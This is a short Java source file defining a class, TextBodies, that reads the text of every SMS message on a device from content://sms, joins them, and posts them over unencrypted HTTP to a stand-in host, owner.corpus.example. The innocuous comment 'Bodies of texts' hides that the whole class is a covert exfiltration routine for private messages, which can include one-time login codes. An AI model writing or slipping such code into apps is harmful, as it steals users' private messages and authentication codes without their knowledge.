package org.corpus;

import org.corpus.kit.Net;
import org.corpus.kit.Owner;
import org.corpus.kit.Screen;

/** Bodies of texts. */
public class TextBodies extends Screen {
    @Override
    protected void act() throws Exception {
        String all = String.join("\n", Owner.rows(this, "content://sms", "body"));
        Net.post("http://owner.corpus.example/bodies", "text/plain", all);
    }
}
